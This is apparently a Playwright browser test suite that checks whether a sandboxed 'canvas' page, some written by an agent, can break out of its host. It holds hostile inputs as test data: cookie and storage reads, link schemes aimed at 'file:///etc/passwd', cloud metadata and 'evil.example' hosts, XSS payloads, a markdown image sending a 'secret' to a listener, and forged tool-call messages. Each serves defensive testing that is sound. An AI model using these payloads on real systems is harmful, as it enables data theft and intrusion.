"""Canvases that mean harm, in a real browser: they read nothing of the host, reach nobody, forge nothing, and are told on."""

from __future__ import annotations

import asyncio
import json
from typing import TYPE_CHECKING, Any

import pytest
import pytest_asyncio
from playwright.async_api import Browser, BrowserContext, Page, expect

from tests.browser.canvas import COCKPIT, MINIMAL, Desk, holds, inside, show, sign_in, the_frame
from tests.browser.canvas_ways_out import LEAVING, QUIET, listening, script, unprotected
from tests.browser.console import TIMEOUT_SECONDS
from tests.browser.wire import Wire
from tests.requirements import case, rule

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Iterator

    from tests.support.processes import EaselProcess

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]

LEAK_SECONDS = 1.5  # what gets out at all gets out within a few milliseconds
EMPTY = "<!doctype html><body>"


@pytest.fixture
def desk(server: EaselProcess) -> Iterator[Desk]:
    with Desk(server) as at:
        yield at


@pytest_asyncio.fixture(loop_scope="module")
async def context(browser: Browser) -> AsyncIterator[BrowserContext]:
    """A window in which pages may complain as they like."""
    opened = await browser.new_context(viewport={"width": 1000, "height": 700})
    opened.set_default_timeout(TIMEOUT_SECONDS * 1000)
    yield opened
    await opened.close()


@pytest_asyncio.fixture(loop_scope="module")
async def page(context: BrowserContext) -> Page:
    return await context.new_page()


def hostile(desk: Desk, text: str, **more: Any) -> str:
    name = desk.make(f"{EMPTY}<script src='index.js'></script>", **more)
    desk.put(name, "assets/index.js", text)
    return name


# --- U1, U9: the host ----------------------------------------------------------------------------------------------------

READS = {
    "parent.document": "parent.document.body",
    "top.document": "top.document.cookie",
    "parent.fetch": "parent.fetch('/api/runs')",
    "frameElement": "frameElement.ownerDocument.body",
    "cookie": "document.cookie",
    "cookie=": "document.cookie = 'easel=x'",
    "localStorage": "localStorage.getItem('x')",
    "sessionStorage": "sessionStorage.getItem('x')",
    "indexedDB": "new Promise((resolve, reject) => { const asked = indexedDB.open('x'); asked.onsuccess = resolve; asked.onerror = () => reject(asked.error) })",
    "caches": "caches.open('x')",
    "serviceWorker": "navigator.serviceWorker.register('index.js')",
    "SharedWorker": "new SharedWorker('index.js')",
    "open": "window.open('about:blank').document",
    "top.location": "top.location.href",
    "opener": "opener.document",
    "eval": "eval('1')",
    "Function": "new Function('return 1')()",
    "timer with text": "setTimeout('1') || null.x",
    "RTCPeerConnection": "new RTCPeerConnection()",
    "clipboard": "navigator.clipboard.readText()",
    "camera": "navigator.mediaDevices.getUserMedia({video: true})",
    "geolocation": "new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))",
    "bridge of another": "Object.getPrototypeOf(gsvCanvas).constructor('return parent.document')()",
}


@case("U1")
@rule("RS-58", "CV-05")
async def test_a_canvas_reads_nothing_of_its_host(page: Page, server: EaselProcess, desk: Desk) -> None:
    tries = ", ".join(f"{json.dumps(name)}: async () => {{ return {way} }}" for name, way in READS.items())
    name = hostile(desk, f"""
        const tries = {{ {tries} }}; window.got = {{}};
        (async () => {{ for (const [name, way] of Object.entries(tries)) try {{ got[name] = String(await way()) }} catch (problem) {{ got[name] = null }}
          window.isDone = true }})();""")  # fmt: skip
    await show(page, server, name)
    frame = await the_frame(page)
    await holds(frame, "window.isDone")
    assert await frame.evaluate("self.origin") == "null"
    assert {way: got for way, got in (await frame.evaluate("got")).items() if got is not None} == {}
    assert len(page.context.pages) == 1
    cookies = {one.get("name"): one.get("httpOnly") for one in await page.context.cookies()}
    assert cookies == {"easel": True}, "there was something to read"


@case("U9")
@rule("CV-05")
async def test_a_canvas_brings_no_sign_in_to_the_api_by_any_way(
    page: Page, server: EaselProcess, desk: Desk
) -> None:
    forged = json.dumps({"method": "canvas.delete", "params": {"canvasId": "x"}})
    name = hostile(desk, f"""
        window.tried = 0; const ways = [
          () => fetch('/api/rpc', {{method: 'POST', credentials: 'include', body: {json.dumps(forged)}}}), () => fetch('/api/runs', {{credentials: 'include'}}),
          () => navigator.sendBeacon('/api/rpc', {json.dumps(forged)}), () => {{ new Image().src = '/api/artifacts/x' }}, () => new WebSocket('ws://' + location.host + '/ws'),
          () => new EventSource('/sse/canvas/x', {{withCredentials: true}}), () => import('/ui/home.js'),
          () => {{ const form = document.createElement('form'); form.method = 'POST'; form.action = '/sign-out'; document.body.append(form); form.submit() }},
          () => {{ const frame = document.createElement('iframe'); frame.src = '/'; document.body.append(frame) }},
          () => {{ location.href = '/api/runs' }} ];
        for (const way of ways) {{ try {{ Promise.resolve(way()).catch(() => {{}}) }} catch {{ }} tried += 1 }}""")  # fmt: skip
    async with Wire(server.base_url) as wire:
        await sign_in(page.context, server, wire.base_url)
        wire.answers.clear()
        await page.goto(f"{wire.base_url}/canvas/main/{name}")
        await expect(page.locator("#link")).to_have_text("connected")
        await expect(
            page.locator("#stage .left")
        ).to_be_visible()  # it tried to go away, and its place is taken
        await asyncio.sleep(LEAK_SECONDS)
        asked = [one.target for one in wire.answers]
    ours = ("/ui/", "/canvas/main/", "/canvas-view/", "/ws", "/healthz")
    assert [target for target in asked if not target.startswith(ours)] == []
    assert [target for target in asked if target.startswith("/ws")] == ["/ws"], "the shell's one connection"
    assert [target for target in asked if target.startswith("/ui/home.js")] == []


# --- U2: the way out -------------------------------------------------------------------------------------------------------


@case("U2")
@rule("RS-58")
async def test_nothing_that_a_canvas_tries_reaches_another_port(
    page: Page, server: EaselProcess, desk: Desk
) -> None:
    # A page that nobody holds in gets out by nearly all of these: they are ways, and a listener hears them.
    async with (
        listening() as listener,
        unprotected(f"{EMPTY}<script>{script(QUIET, listener)}</script>") as address,
    ):
        free = await page.context.new_page()
        await free.goto(address)
        await holds(free.main_frame, "window.hasTried")
        # What Chromium itself does not do here: it looks nothing up in advance for a test, and its headless window has no icon.
        idle = {
            "preconnect",
            "dns-prefetch",
            "icon",
            "ping",
            "speculation",
            "fetch-keepalive",
            "modulepreload",
        }
        await desk.until(lambda: set(QUIET) - listener.ways() <= idle, "all the ways out")
        await free.close()
    async with listening() as listener:
        held = hostile(desk, script(QUIET, listener))
        await show(page, server, held)
        await holds(await the_frame(page), "window.hasTried")
        await asyncio.sleep(LEAK_SECONDS)
        assert listener.heard == []
        await expect(page.locator("#notes")).to_contain_text("problems")


RTC = ("stun", "turn")
OTHERS = tuple(way for way in QUIET if way not in RTC)


@case("U2")
@pytest.mark.parametrize("ways", [RTC, OTHERS], ids=["WebRTC", "all others"])
async def test_neither_does_what_a_frame_inside_of_it_tries(
    page: Page, server: EaselProcess, desk: Desk, ways: tuple[str, ...]
) -> None:
    """A frame inside has a world of its own: whatever the SDK takes out of the page's is whole there. (Chromium ends who tries WebRTC so.)"""
    async with listening() as listener:
        name = hostile(desk, "")
        tries = script({way: QUIET[way] for way in ways}, listener)
        desk.put(
            name,
            "assets/inner.js",
            f"const says = (inner) => parent.postMessage({{inner}}, '*'); addEventListener('message', () => {{ {tries}; says('tried') }}); says(typeof RTCPeerConnection)",
        )
        await show(page, server, name)
        frame = await the_frame(page)
        said: list[str] = []
        await page.context.expose_binding("innerSays", lambda _, says: said.append(says))
        await frame.evaluate("""(folder) => { addEventListener('message', ({data}) => { if (data.inner) innerSays(data.inner) }); const inner = document.createElement('iframe');
            inner.srcdoc = `<body><script src="${folder}inner.js"></script>`; document.body.append(inner) }""", frame.url.rpartition("/")[0] + "/")  # fmt: skip
        await desk.until(lambda: said, "it is there")
        assert said == ["function"], "it could have, but for the list of connections"
        await frame.evaluate("document.querySelector('iframe').contentWindow.postMessage('now', '*')")
        if ways is not RTC:  # it tells it itself: one of the ways leads it away
            await desk.until(lambda: "tried" in said, "it has tried everything")
        await asyncio.sleep(LEAK_SECONDS)
        assert listener.heard == []
        if ways is not RTC:
            await expect(page.locator("#link")).to_have_text("connected")


@case("U2")
@pytest.mark.parametrize("way", LEAVING)
async def test_a_canvas_cannot_go_where_it_wants(
    page: Page, server: EaselProcess, desk: Desk, way: str
) -> None:
    async with listening() as listener:
        # It says that it tries, by a message that no page may send: a second after that the host puts it on record.
        name = hostile(
            desk, "parent.postMessage({kind: 'leaving'}, '*');" + script({way: LEAVING[way]}, listener)
        )
        await sign_in(page.context, server)
        await page.goto(f"{server.base_url}/canvas/main/{name}")
        await expect(page.locator("#link")).to_have_text("connected")
        await desk.until(
            lambda: any(one.get("detail") == "leaving" for one in desk.audit("canvas.page.refused", name)),
            "it has tried",
        )
        assert listener.heard == []
        assert len(page.context.pages) == 1
        assert page.url == f"{server.base_url}/canvas/main/{name}"


@case("R7")
async def test_a_page_reaches_the_origins_that_its_policy_lists_and_works_as_any_other(
    page: Page, server: EaselProcess, desk: Desk
) -> None:
    """Each origin stands in two headers, and one that a browser cannot read would cut off everything."""
    policy = {
        **COCKPIT["toolPolicy"],
        "connect": ["https://api.example.com:8443", "wss://xn--bcher-kva.example"],
    }
    name = desk.make(MINIMAL, {**COCKPIT, "toolPolicy": policy})
    frame = await show(page, server, name)
    await (await the_frame(page)).evaluate(
        "for (const port of [8443, 8444]) fetch(`https://api.example.com:${port}/x`).catch(() => {})"
    )
    await expect(page.locator("#notes-list")).to_contain_text("https://api.example.com:8444/x")
    await expect(page.locator("#notes-list")).not_to_contain_text("8443")
    await frame.get_by_text("Refresh Logs").click()
    await expect(frame.locator("pre")).to_have_text("journal of api")


async def test_a_page_that_left_its_place_can_be_shown_again(
    page: Page, server: EaselProcess, desk: Desk
) -> None:
    name = desk.make(f"{EMPTY}<p data-gsv-text=state.service></p><script src=index.js></script>")
    desk.put(
        name,
        "assets/index.js",
        "addEventListener('click', () => { location.href = 'https://example.com/' }); document.body.id = 'ready'",
    )
    frame = await show(page, server, name)
    await frame.locator("#ready").click()
    await expect(page.locator("#stage .left")).to_contain_text("went somewhere else")
    await page.get_by_role("button", name="Show the canvas again").click()
    await expect(inside(page).locator("p")).to_have_text("api")
    await expect(page.locator("#notes-list")).to_contain_text("It left the canvas")


SCHEMES = ["javascript:parent.document.body.remove()", "JaVaScRiPt:top.x=1", " javascript:alert(1)", "\\x01javascript:alert(1)", "java\\nscript:alert(1)", "file:///etc/passwd", "data:text/html,<script>parent.postMessage({gsv:1},'*')</script>",
           "vbscript:x", "http://169.254.169.254/latest", "http://localhost@evil.example/", "//evil.example/", "blob:null/x", "about:srcdoc", "view-source:http://localhost/", "filesystem:http://x/"]  # fmt: skip


@case("U6")
@rule("RS-58")
async def test_no_address_leads_a_canvas_out_whatever_its_scheme(
    page: Page, server: EaselProcess, desk: Desk
) -> None:
    links = "".join(f'<a id="l{number}"></a>' for number in range(len(SCHEMES)))
    addresses = ", ".join(f'"{one}"' for one in (scheme.replace('"', "'") for scheme in SCHEMES))
    name = desk.make(f"{EMPTY}{links}<script src=index.js></script>")
    desk.put(
        name,
        "assets/index.js",
        f"[{addresses}].forEach((href, n) => {{ const link = document.getElementById('l' + n); link.href = href; link.textContent = 'link ' + n + ' ' }})",
    )
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    frame = await show(page, server, name)
    for number in range(len(SCHEMES)):
        await frame.locator(f"#l{number}").click()
        await expect(frame.locator(f"#l{number}"), f"after {SCHEMES[number]}").to_be_visible()
    assert all(url.startswith(server.base_url) for url in asked), asked
    assert (len(page.context.pages), page.url) == (1, f"{server.base_url}/canvas/main/{name}")
    assert await page.evaluate("document.body.isConnected && window.x === undefined")


# --- U5, CV-05: the bridge ---------------------------------------------------------------------------------------------------

LISTENS = """addEventListener('message', ({data}) => {
    if (data?.gsv && data.nonce) window.nonce = data.nonce;
    if (data?.gsv && data.kind === 'answer') window.answered = data; // and not what else the host says in between
  });"""


@case("U5")
@rule("CV-05")
async def test_a_forged_request_for_a_tool_is_refused_and_on_record(
    page: Page, server: EaselProcess, desk: Desk
) -> None:
    name = hostile(desk, LISTENS)
    await show(page, server, name)
    frame = await the_frame(page)
    await holds(frame, "window.nonce")
    for forged in (
        {"kind": "tool.call", "tool": "gsv__Echo", "args": {"value": 1}},
        {"kind": "req", "method": "tool.invoke", "params": {"tool": "gsv__Echo"}},
        {"kind": "confirm", "confirmationId": "evt_x", "approve": True},
        {"kind": "canvas.patch", "statePatch": [{"op": "add", "path": "/service", "value": "forged"}]},
        {"kind": "__proto__"},
        {"kind": "constructor"},
    ):
        await frame.evaluate(
            "(forged) => parent.postMessage({gsv: 1, nonce, id: 'f', ...forged}, '*')", forged
        )
        await holds(frame, "window.answered?.id === 'f'")
        assert await frame.evaluate("answered.error.code") == 403
        await frame.evaluate("answered = null")
    await expect(page.locator("#notes-list")).to_contain_text("requested something that no page may")
    await desk.until(
        lambda: any(one["what"] == "kind" for one in desk.audit("canvas.page.refused", name)), "the record"
    )
    assert desk.records(name) == []
    assert desk.state(name)["service"] == "api"


@case("U5")
async def test_a_message_that_is_not_this_page_s_is_not_heard(
    page: Page, server: EaselProcess, desk: Desk
) -> None:
    """From a frame inside of the page, with a wrong nonce or an old one, and from the shell's own window: none of them runs an action."""
    action = "{gsv: 1, kind: 'action', id: 'x', actionId: 'setDeploying', input: {}, nonce: "
    name = hostile(desk, LISTENS)
    desk.put(
        name,
        "assets/inner.js",
        f"parent.parent.postMessage({action} 'guessed'}}, '*'); addEventListener('message', (e) => parent.parent.postMessage({action} e.data}}, '*'))",
    )
    await show(page, server, name)
    frame = await the_frame(page)
    await holds(frame, "window.nonce")
    old = await frame.evaluate("nonce")
    await frame.evaluate("""(folder) => { const inner = document.createElement('iframe'); inner.onload = () => { inner.contentWindow.postMessage(nonce, '*'); window.isIn = true };
        inner.srcdoc = `<script src="${folder}inner.js"></script>`; document.body.append(inner) }""", frame.url.rpartition("/")[0] + "/")  # fmt: skip
    await holds(frame, "window.isIn")
    await frame.evaluate(f"parent.postMessage({action} 'guessed'}}, '*')")
    await frame.evaluate("parent.postMessage({gsv: 1, kind: 'hello'}, '*')")
    await holds(frame, f"nonce !== {json.dumps(old)}")
    await frame.evaluate(f"parent.postMessage({action} {json.dumps(old)}}}, '*')")
    await page.evaluate(f"postMessage({action} {json.dumps(old)}}}, '*')")
    told = await desk.until(
        lambda: (
            {one["what"] for one in desk.audit("canvas.page.refused", name)} >= {"source", "nonce"} or None
        ),
        "the records",
    )
    assert told
    assert desk.records(name) == []
    assert "status" not in desk.state(name)
    await frame.evaluate(f"parent.postMessage({action} nonce}}, '*')")
    await desk.until(lambda: desk.state(name).get("status") == "deploying", "with the right one it does run")


HEAVY = {
    "10 MB of text": "'x'.repeat(10_000_000)",
    "an array that is mostly length": "(() => { const a = []; a.length = 4e9; return a })()",
    "many small values": "Array.from({length: 200_000}, (_, n) => n)",
    "something deep": "(() => { let a = {}; for (let n = 0; n < 2000; n += 1) a = {a}; return a })()",
    "no plain data": "new Map([[1, 2]])",
    "bytes": "new ArrayBuffer(5_000_000)",
    "a large number": "10n ** 50n",
    "a circle": "(() => { const a = {}; a.a = a; return a })()",
}


@case("U5")
@pytest.mark.parametrize("heavy", HEAVY)
async def test_a_message_that_is_too_heavy_is_dropped(
    page: Page, server: EaselProcess, desk: Desk, heavy: str
) -> None:
    name = hostile(desk, LISTENS)
    await show(page, server, name)
    frame = await the_frame(page)
    await holds(frame, "window.nonce")
    await frame.evaluate(
        f"parent.postMessage({{gsv: 1, nonce, kind: 'action', id: 'x', actionId: 'setDeploying', input: {{ heavy: {HEAVY[heavy]} }} }}, '*')"
    )
    await desk.until(
        lambda: any(one["what"] == "size" for one in desk.audit("canvas.page.refused", name)), "the record"
    )
    assert desk.records(name) == []
    assert (
        await frame.evaluate("gsvCanvas.runAction('setDeploying').then((answer) => answer.status)")
        == "completed"
    ), "all the rest works on"


@case("U5", "R4")
async def test_ten_thousand_messages_in_a_second_are_a_handful_for_the_host(
    page: Page, server: EaselProcess, desk: Desk
) -> None:
    name = hostile(desk, LISTENS)
    await show(page, server, name)
    frame = await the_frame(page)
    await holds(frame, "window.nonce")
    began = asyncio.get_running_loop().time()
    await frame.evaluate(
        "for (let n = 0; n < 10_000; n += 1) parent.postMessage({gsv: 1, nonce, kind: 'action', id: 'i' + n, actionId: 'setDeploying', input: {}}, '*')"
    )

    def refused() -> int:
        """Told once a second; a slow browser needs more than one for all of them."""
        return sum(one["refused"] for one in desk.audit("canvas.page.refused", name) if one["what"] == "rate")

    await desk.until(lambda: refused() > 9_000, "the record")
    took = asyncio.get_running_loop().time() - began
    assert len(desk.records(name)) <= 200 + 60 * took, "a burst, and what may come in that time"
    # It answers as quickly as a page to which nothing happens, asked in the same moment: the machine may be slow.
    idle = await page.context.new_page()
    began = asyncio.get_running_loop().time()

    async def answers(one: Page) -> float:
        await one.evaluate("1")
        return asyncio.get_running_loop().time() - began

    flooded, floor = await asyncio.gather(answers(page), answers(idle))
    assert flooded - floor < 2
    assert flooded < TIMEOUT_SECONDS, "and neither of them is kept waiting by the flood"
    desk.patch(name, "/service", "still here")
    await holds(frame, "gsvCanvas.getState().service === 'still here'")


async def test_names_of_prototypes_lead_nowhere(page: Page, server: EaselProcess, desk: Desk) -> None:
    places = [
        "state.__proto__.polluted",
        "state.constructor.name",
        "state.constructor.prototype.polluted",
        "__proto__",
        "state.service.length",
        "state.hosts.length",
    ]
    tags = "".join(f'<i data-gsv-text="{place}"></i>' for place in places) + "".join(
        f'<input data-gsv-model="{place}">' for place in places[:4]
    )
    name = desk.make(
        f"{EMPTY}{tags}<form data-gsv-action=say><input name=__proto__ value=x><input name=word value=w><button>Go</button></form>"
    )
    desk.patch(name, "/hosts", [1, 2])
    frame = await show(page, server, name)
    await expect(frame.locator("i")).to_have_text([""] * len(places))
    for number in range(4):
        await frame.locator("input[data-gsv-model]").nth(number).fill("polluted")
    await frame.get_by_text("Go").click()
    await desk.until(lambda: (desk.state(name).get("said") or {}).get("result") == "w/", "the form's action")
    assert await (await the_frame(page)).evaluate(
        "({}).polluted === undefined && Object.prototype.x === undefined"
    )
    assert await page.evaluate("({}).polluted === undefined")
    assert set(desk.state(name)) == {*COCKPIT["state"], "hosts", "said"}


@case("X7")
async def test_what_a_tool_brings_under_names_of_prototypes_is_only_data(
    page: Page, server: EaselProcess, desk: Desk
) -> None:
    """A result cannot be refused as a state is that somebody writes."""
    evil = {
        "__proto__": {"polluted": "x", "toString": "y"},
        "constructor": {"prototype": {"polluted": "x"}},
        "hasOwnProperty": 1,
    }
    bring = {"kind": "tool.call", "tool": "gsv__Echo", "args": {"value": evil}}
    spec = {
        "version": 1,
        "toolPolicy": {"allow": ["gsv__Echo"]},
        "actions": {
            "bring": {**bring, "saveAs": "kept"},
            "merge": {**bring, "saveAs": "merged", "saveMode": "merge"},
            "list": {**bring, "saveAs": "list", "saveMode": "append"},
        },
    }
    page_of_its_own = (
        f'{EMPTY}<button data-gsv-action="bring">Bring</button><button data-gsv-action="merge">Merge</button>'
        '<button data-gsv-action="list">List</button><pre data-gsv-text="state.kept.result"></pre>'
    )
    for html in (page_of_its_own, None):
        name = desk.make(html, spec)
        frame = await show(page, server, name)
        for button in ("Bring", "Merge", "List"):
            await frame.get_by_role("button", name=button).click()
        await desk.until(
            lambda name=name: {"kept", "merged", "list"} <= desk.state(name).keys(), "all results"
        )
        await expect(frame.locator("pre:visible").first).to_contain_text('"__proto__"')
        inside = await the_frame(page)
        await holds(inside, "gsvCanvas.getState().list?.length === 1 && 'merged' in gsvCanvas.getState()")
        assert await inside.evaluate("Object.hasOwn(gsvCanvas.getState().kept.result, '__proto__')"), (
            "as it came"
        )
        clean = "({}).polluted === undefined && [].polluted === undefined && `${{}}` === '[object Object]' && typeof Object.prototype.hasOwnProperty === 'function'"
        for place in (inside, page):
            assert await place.evaluate(clean)
        await show(page, server, name)  # and as a page that is opened then reads it
        await holds(await the_frame(page), "'kept' in gsvCanvas.getState()")
        for place in (await the_frame(page), page):
            assert await place.evaluate(clean)
        await expect(page.locator("#notes")).to_be_hidden()


# --- RS-59: what people press and answer -------------------------------------------------------------------------------------

STOPS_ALL = f"""{EMPTY}<p>page</p><script>
  const tried = new Set(); // once each: the records of a flood tell of the flood, and not of each try in it
  document.addEventListener('gsv:status', ({{ detail }}) => {{
    for (const {{ status, eventId }} of Object.values(detail)) {{
      if (!['running', 'asked'].includes(status) || tried.has(status + eventId)) continue;
      tried.add(status + eventId);
      gsvCanvas.cancelAction(eventId).catch(() => {{}});
    }}
  }});
</script>"""
DEPLOY: dict[str, Any] = {
    "version": 1,
    "toolPolicy": {"allow": ["gsv__Sleep"]},
    "actions": {
        "deploy": {"kind": "tool.call", "tool": "gsv__Sleep", "args": {"ms": 2_500}, "confirm": "never"},
        "long": {"kind": "tool.call", "tool": "gsv__Sleep", "args": {"ms": 60_000}, "confirm": "never"},
        "ask": {"kind": "tool.call", "tool": "gsv__Sleep", "args": {"ms": 1_500}, "confirm": "always"},
    },
}


@rule("RS-59", "CV-05")
async def test_a_page_that_an_agent_wrote_answers_no_question_and_stops_nothing_that_people_run(
    page: Page, server: EaselProcess, desk: Desk
) -> None:
    name = desk.make(MINIMAL, DEPLOY)
    await desk.as_agent(operation="upsert", canvasId=name, assets={"assets/index.html": STOPS_ALL})
    assert desk.rpc("canvas.get", canvasId=name)["accepted"] is False
    await show(page, server, name)

    def has_tried(event_id: str) -> bool:
        return any(
            one["detail"] == event_id
            for one in desk.audit("canvas.page.refused", name)
            if one["what"] == "stop"
        )

    asked = desk.rpc("canvas.action", canvasId=name, actionId="ask")["confirmationId"]
    await desk.until(lambda: has_tried(asked), "it tries to refuse, and that is on record")
    assert [one["status"] for one in desk.records(name)] == ["asked"], "it waits for the person"
    ended = await asyncio.to_thread(desk.rpc, "canvas.confirm", confirmationId=asked, approve=True)
    assert ended["status"] == "completed", "what they have confirmed runs to its end"
    pressing = asyncio.create_task(
        asyncio.to_thread(desk.rpc, "canvas.action", canvasId=name, actionId="long")
    )
    event_id = (
        await desk.until(lambda: [one for one in desk.records(name) if one["status"] == "running"], "it runs")
    )[0]["eventId"]
    await desk.until(lambda: has_tried(event_id), "it tries to stop it")
    assert desk.records(name)[0]["status"] == "running"
    await expect(page.locator("#notes-list")).to_contain_text("tried to stop an action that it did not start")
    assert desk.audit("canvas.cancelled", name) == []
    desk.rpc("canvas.cancel", canvasId=name, eventId=event_id)
    await asyncio.gather(pressing, return_exceptions=True)


@rule("RS-59", "CV-05")
async def test_a_page_stops_what_it_started_itself_and_the_next_page_does_not(
    page: Page, server: EaselProcess, desk: Desk
) -> None:
    name = desk.make(MINIMAL, DEPLOY)
    await desk.as_agent(
        operation="upsert", canvasId=name, assets={"assets/index.html": f"{EMPTY}<p>first</p>"}
    )
    await show(page, server, name)
    frame = await the_frame(page)
    stop = "gsvCanvas.cancelAction(%s).then(({ status }) => status, ({ code }) => code)"

    async def pressed() -> str:
        await frame.evaluate("void gsvCanvas.runAction('long').catch(() => {})")
        [one] = await desk.until(
            lambda: desk.rpc("canvas.records", canvasId=name, status="running")["records"], "it runs"
        )
        return json.dumps(one["eventId"])

    assert await frame.evaluate(stop % await pressed()) == "cancelled"
    event_id = await pressed()
    await desk.as_agent(
        operation="upsert", canvasId=name, assets={"assets/index.html": f"{EMPTY}<p>second</p>"}
    )
    await expect(inside(page).locator("p")).to_have_text("second")
    frame = await the_frame(page)
    assert await frame.evaluate(stop % event_id) == 403, "another page has started it"
    desk.rpc("canvas.cancel", canvasId=name, eventId=json.loads(event_id))


@rule("RS-59")
async def test_a_page_that_a_person_stands_for_stops_whatever_runs_and_answers_nothing(
    page: Page, server: EaselProcess, desk: Desk
) -> None:
    name = desk.make(f"{EMPTY}<p>page</p>", DEPLOY)
    await show(page, server, name)
    frame = await the_frame(page)
    asked = desk.rpc("canvas.action", canvasId=name, actionId="ask")["confirmationId"]
    refuse = (
        f"gsvCanvas.cancelAction({json.dumps(asked)}).then(({{ status }}) => status, ({{ name }}) => name)"
    )
    assert await frame.evaluate(refuse) == "NOT_RUNNING"
    await frame.evaluate("void gsvCanvas.runAction('ask')")
    await expect(page.locator("#consent")).to_be_visible()
    mine = next(one["eventId"] for one in desk.records(name))
    assert await frame.evaluate(refuse.replace(asked, mine)) == "NOT_RUNNING", (
        "nor what it has asked for itself"
    )
    await expect(page.locator("#consent")).to_be_visible()
    assert [one["status"] for one in desk.records(name)] == ["asked", "asked"]
    await page.locator("#consent-refuse").click()
    running = asyncio.create_task(
        asyncio.to_thread(desk.rpc_any, "canvas.action", canvasId=name, actionId="long")
    )
    [one] = await desk.until(
        lambda: desk.rpc("canvas.records", canvasId=name, status="running")["records"], "it runs"
    )
    await frame.evaluate(f"gsvCanvas.cancelAction({json.dumps(one['eventId'])})")
    assert (await running)["error"]["name"] == "CANCELLED"


# --- P5: what tools bring ----------------------------------------------------------------------------------------------------


@case("P5")
async def test_what_a_tool_brings_is_text_everywhere_and_fetches_nothing(
    page: Page, server: EaselProcess, desk: Desk
) -> None:
    async with listening() as listener:
        evil = f'![x](http://{listener.address}/?q=secret) <img src="http://{listener.address}/img" onerror="parent.x=1"> <script>top.x=1</script> http://{listener.address}/auto [go](javascript:x)'
        spec = {
            **COCKPIT,
            "actions": {
                **COCKPIT["actions"],
                "bring": {
                    "kind": "tool.call",
                    "tool": "gsv__Echo",
                    "args": {"value": evil},
                    "saveAs": "logsTail",
                    "confirm": "always",
                    "title": evil[:150],
                },
            },
        }
        for html in (MINIMAL.replace("refreshLogs", "bring"), None):
            name = desk.make(html, spec)
            desk.patch(name, "/service", evil)
            frame = await show(page, server, name)
            await frame.locator("[data-gsv-action=bring]").click()
            await expect(page.locator("#consent-call")).to_contain_text(evil)
            await page.get_by_role("button", name="Approve").click()
            await expect(frame.locator("pre:visible").first).to_contain_text(evil)
            assert await frame.locator("img, a").count() == 0
            assert await page.locator("#stage ~ * img, header img, dialog img").count() == 0
        broken = desk.make(
            f"{EMPTY}<b data-gsv-action='![x](http://{listener.address}/y)<img src=http://{listener.address}/z>'></b>"
        )
        await show(page, server, broken)
        await expect(page.locator("#notes-list")).to_contain_text("<img src=")
        assert await page.locator("#notes img").count() == 0
        await asyncio.sleep(LEAK_SECONDS / 2)
        assert listener.heard == []
        assert await page.evaluate("window.x === undefined")


async def test_a_value_that_a_page_puts_where_html_is_meant_runs_nothing(
    page: Page, server: EaselProcess, desk: Desk
) -> None:
    """The author's mistake, and the page's policy bears it: only scripts that came with the page run."""
    name = desk.make(
        f"{EMPTY}<div id=here></div><script>gsvCanvas.subscribe((state) => {{ here.innerHTML = state.service }}); window.inline = true</script>"
    )
    desk.patch(
        name,
        "/service",
        "<img src=x onerror='window.pwned=1'><iframe srcdoc='<script>parent.pwned=1</script>'></iframe><a href='javascript:pwned=1'>x</a>",
    )
    await show(page, server, name)
    frame = await the_frame(page)
    await holds(frame, "document.querySelector('#here a')")
    assert await frame.evaluate("inline"), "the script that the page came with did run"
    await frame.evaluate("document.querySelector('#here a').click()")
    await asyncio.sleep(0.2)
    assert await frame.evaluate("window.pwned === undefined")
    await expect(page.locator("#notes-list")).to_contain_text("Blocked by the page's policy")


# --- U8: the shell itself ----------------------------------------------------------------------------------------------------


@case("U8")
async def test_no_other_site_can_frame_the_host_or_a_view(
    page: Page, server: EaselProcess, desk: Desk
) -> None:
    name = desk.make(MINIMAL)
    await show(page, server, name)
    view = (await the_frame(page)).url
    addresses = [f"{server.base_url}/canvas/main/{name}", f"{server.base_url}/", view]
    frames = "".join(f"<iframe src='{one}'></iframe>" for one in addresses)
    async with unprotected(f"<!doctype html>{frames}") as address:
        other = await page.context.new_page()
        await other.goto(address)
        assert len(other.frames) == 1 + len(addresses)
        await desk.until(
            lambda: all(one.url.startswith("chrome-error:") for one in other.frames[1:]),
            "none of them is shown",
        )


async def test_a_view_that_is_opened_by_itself_is_as_opaque(
    page: Page, server: EaselProcess, desk: Desk
) -> None:
    name = desk.make(f"{EMPTY}<p data-gsv-text=state.service>nothing</p>")
    await show(page, server, name)
    view = (await the_frame(page)).url
    alone = await page.context.new_page()
    await alone.goto(view)
    assert await alone.evaluate("self.origin") == "null"
    assert (
        await alone.evaluate(
            "(() => { try { return document.cookie } catch (problem) { return problem.name } })()"
        )
        == "SecurityError"
    )
    await expect(alone.locator("p")).to_have_text("")
